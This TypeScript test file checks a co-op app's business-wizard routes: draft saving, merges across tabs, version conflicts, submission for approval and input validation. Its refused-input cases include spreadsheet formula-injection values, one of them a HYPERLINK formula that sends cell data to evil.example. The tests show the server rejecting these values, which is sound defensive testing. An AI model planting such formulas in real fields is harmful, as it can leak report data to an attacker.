import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { keys } from '#functions/db/keys.js';
import { permissionsFor } from '#infra/lib/permissions.js';
import { addDays, dayIn, DEFAULT_TIME_ZONE } from '#functions/core/dates.js';
import { BUSINESS_STATUS, PERPETUAL_DATE } from '#shared/constants.js';
import { formulaMessage } from '#shared/partner-rules.js';
import { usFromIso } from '#shared/us-dates.js';
import { routes, type RoutePath } from '#shared/routes.js';
import { DRAFT_END, sampleDraft } from '../support/business-draft.js';
import { callRoute, FIXTURE, installIamHarness } from '../support/iam-harness.js';
import { PARTNERS_MESSAGES } from '#shared/schemas/partners-messages.js';

// The business wizard's routes under their own IAM roles: what the wizard reads first, a draft
// saved and resumed, two tabs' saves merged, Send for Approval writing the partner into the
// co-op's review queue, and refused submissions writing nothing.

const harness = installIamHarness();
afterAll(() => harness.restore());

const call = (path: RoutePath, body: unknown) => {
  harness.use(permissionsFor(routes[path]));
  return callRoute(path, { credentials: FIXTURE.memberId, ...(body as object) }, { session: true });
};
const save = (draft: ReturnType<typeof sampleDraft>, extra: object = {}) =>
  call('tbp/savebusinesstemp', {
    businessName: draft.businessInfo.businessName,
    id: draft.bpId,
    json: draft,
    ...extra,
  });
/** What a page that opened before any save loaded: the wizard's empty business. */
const blankBase = () => {
  const info = sampleDraft('blank').businessInfo;
  return {
    businessInfo: {
      ...info,
      businessName: '',
      address: '',
      city: '',
      state: '',
      zip: '',
      phone: '',
      website: '',
      email: '',
      includeAsLocation: false,
    },
    contractInfo: { eSignType: 'sign', businessData: {} },
  };
};
const withOffer = (changes: Partial<ReturnType<typeof sampleDraft>['offers'][number]>) => {
  const draft = sampleDraft('bp-bad');
  return { ...draft, offers: [{ ...draft.offers[0]!, ...changes }] };
};
const partnerItems = (bpId: string) => harness.tables.all('core').filter((i) => i.pk === keys.partner(bpId).pk);

beforeEach(() => harness.reset());

describe('what the wizard reads first', () => {
  it("answers the categories, the member's co-op address in parts, and the member as contact", async () => {
    expect((await call('tbp/listcategories', {})).body).toEqual({
      success: true,
      categories: [{ category: 'Dining', subcategories: [{ subcategory: 'Pizza' }] }],
    });
    expect((await call('tbp/getcoopinfo', {})).body).toEqual({
      success: true,
      coopInfo: {
        coopName: expect.any(String),
        address: '1200 Sunflower Road',
        city: 'Lawrence',
        state: 'KS',
        zip: '66044',
      },
    });
    const profile = await call('tbp/getprofile', {});
    expect(profile.body).toMatchObject({
      success: true,
      profile: {
        userId: FIXTURE.memberId,
        firstName: 'Harness',
        email: FIXTURE.email,
        ipAddress: FIXTURE.sourceIp,
        isAdmin: 0,
      },
    });
    expect(harness.refusals).toEqual([]);
  });
});

describe('tbp/savebusinesstemp', () => {
  it('saves a draft (status 99, version 1) with the signed-in member as contact, and resumes it', async () => {
    const draft = sampleDraft('bp-save-1');
    const res = await save(draft);
    expect(harness.refusals).toEqual([]);
    expect(res.body).toMatchObject({
      success: true,
      message: PARTNERS_MESSAGES.draftSaved,
      version: 1,
      status: BUSINESS_STATUS.draft,
    });
    const resumed = await call('tbp/getbusinessdraft', {});
    expect(resumed.body).toMatchObject({
      success: true,
      business: {
        version: 1,
        status: 99,
        draft: { bpId: 'bp-save-1', businessInfo: { businessName: 'Sample Bakery' } },
      },
    });
    expect((resumed.body.business as { draft: { memberInfo: unknown } }).draft.memberInfo).toEqual({
      userId: FIXTURE.memberId,
      firstName: 'Harness',
      lastName: 'Member',
      email: FIXTURE.email,
      cellPhone: null,
      zip: FIXTURE.zip,
    });
    // Saved only as a draft: nothing in the review queue yet.
    expect(partnerItems('bp-save-1')).toEqual([]);
  });

  it("merges a save from an older version: neither tab's location or offer is lost", async () => {
    const first = sampleDraft('bp-merge');
    expect((await save(first)).body.version).toBe(1);
    // A second tab opened before that save adds another location and offer.
    const second = sampleDraft('bp-merge');
    second.locations = [
      { ...second.locations[0]!, id: 'loc-second', type: 0, locationName: 'Second store', offers: ['offer-2'] },
    ];
    second.offers = [{ ...second.offers[0]!, id: 'offer-2', value: 'Half-price bread' }];
    const merged = await save(second, { base: blankBase() });
    expect(merged.body).toMatchObject({ success: true, version: 2 });
    const draft = (merged.body as { draft: ReturnType<typeof sampleDraft> }).draft;
    expect(draft.locations.map((l) => l.id).sort()).toEqual(['loc-main', 'loc-second']);
    expect(draft.offers.map((o) => o.id).sort()).toEqual(['offer-1', 'offer-2']);
    // A page on the latest version that deleted an unsaved location drops it.
    const third = await save(
      { ...draft, locations: draft.locations.filter((l) => l.id !== 'loc-second') },
      { version: 2, removed: { locations: ['loc-second'], offers: [] } },
    );
    expect((third.body as { draft: ReturnType<typeof sampleDraft> }).draft.locations.map((l) => l.id)).toEqual([
      'loc-main',
    ]);
  });

  // A stale page's save keeps what it did not change: the wizard once reopened on a stale copy, and
  // its next save wiped the city saved before.
  it('a save from a page on an older version keeps the business info it did not change; the fields it changed win', async () => {
    const first = sampleDraft('bp-stale', {
      businessName: 'Resume Bakery',
      city: 'Lawrence',
      website: 'resume.example',
    });
    first.contractInfo = {
      eSignType: 'sign',
      emailTo: 'signer@resume.example',
      businessData: { printedName: 'Ada Baker', title: 'Owner' },
    };
    expect((await save(first)).body.version).toBe(1);
    // A page that opened before that save (it loaded no business) types another name and a website.
    const stale = sampleDraft('bp-stale', {
      businessName: 'Resume Bakery and Cafe',
      city: '',
      website: 'cafe.example',
      address: '',
      zip: '',
      phone: '',
      email: '',
      state: '',
    });
    stale.contractInfo = { eSignType: 'sign', emailTo: null, businessData: { printedName: '', title: '' } };
    const res = await save(stale, { base: blankBase() });
    expect(res.body).toMatchObject({ success: true, version: 2 });
    const resumed = (await call('tbp/getbusinessdraft', {})).body as {
      business: { version: number; draft: ReturnType<typeof sampleDraft> };
    };
    expect(resumed.business.version).toBe(2);
    expect(resumed.business.draft.businessInfo).toMatchObject({
      businessName: 'Resume Bakery and Cafe',
      website: 'cafe.example',
      city: 'Lawrence',
      address: '12 Wheat Street',
      zip: '66044',
      state: 'KS',
    });
    expect(resumed.business.draft.contractInfo).toMatchObject({
      emailTo: 'signer@resume.example',
      businessData: { printedName: 'Ada Baker', title: 'Owner' },
    });
    // A page on the latest version saves as it is: a field it clears stays cleared.
    const latest = { ...resumed.business.draft, businessInfo: { ...resumed.business.draft.businessInfo, website: '' } };
    expect((await save(latest, { version: 2 })).body).toMatchObject({
      success: true,
      version: 3,
      draft: { businessInfo: { website: '', city: 'Lawrence' } },
    });
  });

  it('refuses a save from an older version that does not say what it loaded, and writes nothing', async () => {
    expect((await save(sampleDraft('bp-stale-2', { city: 'Lawrence' }))).body.version).toBe(1);
    const res = await save(sampleDraft('bp-stale-2', { city: '' }));
    expect(res).toMatchObject({ status: 409, body: { message: PARTNERS_MESSAGES.draftChangedElsewhere } });
    expect(await save(sampleDraft('bp-stale-2', { city: '' }), { version: 0 })).toMatchObject({
      status: 409,
      body: { message: PARTNERS_MESSAGES.draftChangedElsewhere },
    });
    const resumed = (await call('tbp/getbusinessdraft', {})).body as {
      business: { version: number; draft: ReturnType<typeof sampleDraft> };
    };
    expect(resumed.business).toMatchObject({ version: 1, draft: { businessInfo: { city: 'Lawrence' } } });
  });

  it("sends for approval: the partner, its location and offer in the co-op's queue, the member mailed, the draft locked", async () => {
    const draft = sampleDraft('bp-submit');
    const res = await save(draft, { submit: true });
    expect(harness.refusals).toEqual([]);
    expect(res.body).toMatchObject({
      success: true,
      message: PARTNERS_MESSAGES.draftSubmitted,
      status: BUSINESS_STATUS.inReview,
    });
    const stored = (res.body as { draft: ReturnType<typeof sampleDraft> }).draft;
    const dealId = stored.offers[0]!.databaseId!;
    const locationId = stored.locations[0]!.databaseId!;
    expect(partnerItems('bp-submit')).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          sk: 'PROFILE',
          status: 66,
          plid: FIXTURE.plid,
          memberId: FIXTURE.memberId,
          businessName: 'Sample Bakery',
          ...keys.partnerListing(FIXTURE.plid, 66, 'bp-submit'),
        }),
        expect.objectContaining({
          ...keys.partnerLocation('bp-submit', locationId),
          locationName: 'Main store',
          zip: '66044',
          status: 1,
        }),
        expect.objectContaining({
          ...keys.partnerOffer('bp-submit', dealId),
          value: 'Free cookie',
          expirationDate: DRAFT_END.iso,
          locationIds: [locationId],
          ...keys.offerById(dealId),
        }),
      ]),
    );
    expect(harness.mails).toEqual([
      { to: [FIXTURE.email], subject: 'Sample Bakery was sent to Prairie Sky Electric for approval' },
    ]);
    expect(await save(draft, { version: 1 })).toMatchObject({
      status: 409,
      body: { message: PARTNERS_MESSAGES.draftLocked },
    });
  });

  it.each([
    ['a blank business name', sampleDraft('bp-bad', { businessName: ' ' }), PARTNERS_MESSAGES.bizName],
    ['a state that is not one', sampleDraft('bp-bad', { state: 'XX' }), PARTNERS_MESSAGES.bizState],
    ['a ZIP of four digits', sampleDraft('bp-bad', { zip: '6604' }), PARTNERS_MESSAGES.bizZipInvalid],
    ['a phone without the mask', sampleDraft('bp-bad', { phone: '7855550142' }), PARTNERS_MESSAGES.bizPhoneInvalid],
    ['an email without a domain', sampleDraft('bp-bad', { email: 'owner@' }), PARTNERS_MESSAGES.bizEmailInvalid],
    ['no offers', { ...sampleDraft('bp-bad'), offers: [] }, PARTNERS_MESSAGES.submitNeedsOffer],
    [
      'no enabled location',
      { ...sampleDraft('bp-bad'), locations: [{ ...sampleDraft('bp-bad').locations[0]!, status: 0 as const }] },
      PARTNERS_MESSAGES.submitNeedsLocation,
    ],
    [
      'an offer without a channel',
      {
        ...sampleDraft('bp-bad'),
        offers: [{ ...sampleDraft('bp-bad').offers[0]!, isPrinted: 0 as const, isMobile: 0 as const }],
      },
      PARTNERS_MESSAGES.offerChannel,
    ],
    // Free text that would run as a formula in the co-op's CSV reports.
    [
      'a business name that is a formula',
      sampleDraft('bp-bad', { businessName: '=HYPERLINK("https://evil.example/?"&A3,"Open")' }),
      formulaMessage('businessName'),
    ],
    ['a website starting with +', sampleDraft('bp-bad', { website: '+evil.example' }), formulaMessage('website')],
    [
      'a location name starting with @',
      { ...sampleDraft('bp-bad'), locations: [{ ...sampleDraft('bp-bad').locations[0]!, locationName: ' @SUM(A1)' }] },
      formulaMessage('locationName'),
    ],
    [
      'an offer description starting with -',
      { ...sampleDraft('bp-bad'), offers: [{ ...sampleDraft('bp-bad').offers[0]!, description: '-20% off' }] },
      formulaMessage('description'),
    ],
    [
      'special instructions starting with a tab',
      { ...sampleDraft('bp-bad'), offers: [{ ...sampleDraft('bp-bad').offers[0]!, stubCopy: '\t=1+1' }] },
      formulaMessage('stubCopy'),
    ],
    // An offer's expiry and dollar value, each refused with what is wrong.
    [
      'an offer that expired on 01/01/2020',
      withOffer({ endDate: '01/01/2020' }),
      PARTNERS_MESSAGES.offerExpirationPast,
    ],
    [
      'an expiry that is no date (13/45/2020)',
      withOffer({ endDate: '13/45/2020' }),
      PARTNERS_MESSAGES.offerExpirationInvalid,
    ],
    [
      'an expiry on a day February lacks (02/30/2027)',
      withOffer({ endDate: '02/30/2027' }),
      PARTNERS_MESSAGES.offerExpirationInvalid,
    ],
    [
      'a dollar value that is no number',
      withOffer({ dollarValue: 'abc' as unknown as number }),
      PARTNERS_MESSAGES.offerDollarInvalid,
    ],
    ['a dollar value of -5', withOffer({ dollarValue: -5 }), PARTNERS_MESSAGES.offerDollarInvalid],
  ])('refuses to send %s, writing nothing', async (_what, draft, message) => {
    const res = await save(draft, { submit: true });
    expect(res).toMatchObject({ status: 400, body: { success: false, message } });
    expect(partnerItems('bp-bad')).toEqual([]);
    expect(harness.tables.all('core').filter((i) => i.sk === keys.draft(FIXTURE.memberId, 'bp-bad').sk)).toEqual([]);
    expect(harness.mails).toEqual([]);
  });

  it("sends an offer ending on the co-op's today or perpetual (01/01/2050); one that ended yesterday there is refused", async () => {
    // The harness co-op keeps the default zone, as a co-op whose staff set none.
    const today = dayIn(Date.now(), DEFAULT_TIME_ZONE);
    const yesterday = {
      ...sampleDraft('bp-day'),
      offers: [{ ...sampleDraft('bp-day').offers[0]!, endDate: usFromIso(addDays(today, -1)) }],
    };
    expect(await save(yesterday, { submit: true })).toMatchObject({
      status: 400,
      body: { message: PARTNERS_MESSAGES.offerExpirationPast },
    });
    const ok = {
      ...sampleDraft('bp-day'),
      offers: [
        { ...sampleDraft('bp-day').offers[0]!, endDate: usFromIso(today) },
        { ...sampleDraft('bp-day').offers[0]!, id: 'offer-2', endDate: PERPETUAL_DATE },
      ],
    };
    ok.locations = [{ ...ok.locations[0]!, offers: ['offer-1', 'offer-2'] }];
    const res = await save(ok, { submit: true });
    expect(res.body).toMatchObject({ success: true, status: BUSINESS_STATUS.inReview });
  });

  it("refuses a request whose id is not its draft's", async () => {
    const draft = sampleDraft('bp-one');
    expect(await call('tbp/savebusinesstemp', { businessName: 'x', id: 'bp-two', json: draft })).toMatchObject({
      status: 400,
      body: { message: PARTNERS_MESSAGES.draftIdMismatch },
    });
  });
});
